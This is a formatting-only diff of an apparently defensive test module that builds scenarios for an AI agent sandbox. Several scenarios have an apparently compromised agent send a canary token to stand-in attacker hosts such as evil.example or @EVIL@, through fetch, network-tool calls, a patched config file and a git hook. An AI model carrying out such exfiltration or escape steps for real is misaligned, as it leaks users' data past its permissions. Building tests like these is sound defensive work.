@@ -47,9 +47,17 @@ FILES = {
 def scenarios() -> Iterator[Scenario]:
     for name, url in ADDRESSES.items():
         yield Scenario(
-            name=f"fetch with {name}", kind="fetch", steps=(*TURNED, call("fetch", url=url)), opens=name in _OPENS
+            name=f"fetch with {name}",
+            kind="fetch",
+            steps=(*TURNED, call("fetch", url=url)),
+            opens=name in _OPENS,
         )
-    for mode, answers in (("full", "no"), ("full", "harmless"), ("ask", "harmless"), ("read-only", "harmless")):
+    for mode, answers in (
+        ("full", "no"),
+        ("full", "harmless"),
+        ("ask", "harmless"),
+        ("read-only", "harmless"),
+    ):
         yield Scenario(
             name=f"fetch in mode {mode}, answered {answers}",
             kind="fetch",
@@ -79,11 +87,18 @@ def _from_code() -> Iterator[Scenario]:
     yield Scenario(
         name="fetch after a page that was not found",
         kind="fetch",
-        steps=(READS, call("fetch", url="http://@LISTED@/gone"), call("fetch", url="http://@LISTED@/@CANARY@")),
+        steps=(
+            READS,
+            call("fetch", url="http://@LISTED@/gone"),
+            call("fetch", url="http://@LISTED@/@CANARY@"),
+        ),
         opens=True,
     )
     for tool in ("network", "ask_user", "send_mail", "http_request"):
-        args = {"network": {"host": "evil.example", "port": 80, "how": "@CANARY@"}, "ask_user": {"question": "@CANARY@?"}}
+        args = {
+            "network": {"host": "evil.example", "port": 80, "how": "@CANARY@"},
+            "ask_user": {"question": "@CANARY@?"},
+        }
         yield Scenario(
             name=f"the tool {tool} by its name",
             kind="tools",
@@ -135,7 +150,12 @@ def _files() -> Iterator[Scenario]:
     yield Scenario(
         name="patch pinfold.toml, then fetch",
         kind="files",
-        steps=(*TURNED, call("apply_patch", patch=patch), "resume", call("fetch", url="http://@EVIL@/@CANARY@")),
+        steps=(
+            *TURNED,
+            call("apply_patch", patch=patch),
+            "resume",
+            call("fetch", url="http://@EVIL@/@CANARY@"),
+        ),
     )
     yield Scenario(
         name="a hook of git, then a commit",
